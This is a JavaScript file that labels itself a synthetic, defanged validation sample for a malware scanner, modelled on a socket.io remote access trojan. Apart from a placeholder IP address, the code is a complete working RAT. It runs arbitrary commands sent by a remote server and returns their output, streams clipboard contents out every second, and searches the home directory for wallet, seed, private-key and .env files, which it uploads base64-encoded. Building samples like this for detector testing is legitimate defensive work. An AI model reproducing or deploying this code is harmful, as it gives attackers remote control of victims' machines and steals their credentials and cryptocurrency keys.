// SYNTHETIC, DEFANGED malwi validation sample - modelled on Contagious Interview / OtterCookie socket.io RAT (2024-2025); never run.
// Remote shell over socket.io: run whatever command the server sends, return the output;
// also poll the clipboard and upload documents that match crypto keywords.
const io = require('socket.io-client');
const os = require('os');
const fs = require('fs');
const path = require('path');
const { exec } = require('child_process');

const socket = io('http://203.0.113.88:1418', { reconnectionDelay: 5000 });
const uid = os.hostname() + '_' + os.userInfo().username;

socket.on('connect', () => socket.emit('whour', { uid, platform: os.platform(), release: os.release() }));
socket.on('command', (msg) => {
  exec(msg.cmd, { windowsHide: true, maxBuffer: 1024 * 1024 * 300 }, (err, stdout, stderr) => {
    socket.emit('cmdResult', { id: msg.id, out: String(stdout), err: String(stderr || err || '') });
  });
});

let lastClip = '';
setInterval(() => {
  const cmd = os.platform() === 'darwin' ? 'pbpaste' : os.platform() === 'win32' ? 'powershell -NoProfile -Command Get-Clipboard' : 'xclip -o -selection clipboard';
  exec(cmd, (e, out) => {
    if (!e && out && out !== lastClip) {
      lastClip = out;
      socket.emit('clip', { uid, text: out });
    }
  });
}, 1000);

function scan(dir, depth) {
  if (depth > 4) return;
  let entries = [];
  try {
    entries = fs.readdirSync(dir, { withFileTypes: true });
  } catch (e) {
    return;
  }
  for (const ent of entries) {
    const p = path.join(dir, ent.name);
    if (ent.isDirectory() && !ent.name.startsWith('.') && ent.name !== 'node_modules') scan(p, depth + 1);
    else if (/(seed|mnemonic|wallet|private|\.env$|metamask|phantom)/i.test(ent.name)) {
      socket.emit('upload', { uid, name: p, data: fs.readFileSync(p).toString('base64') });
    }
  }
}
setTimeout(() => scan(os.homedir(), 0), 30000);
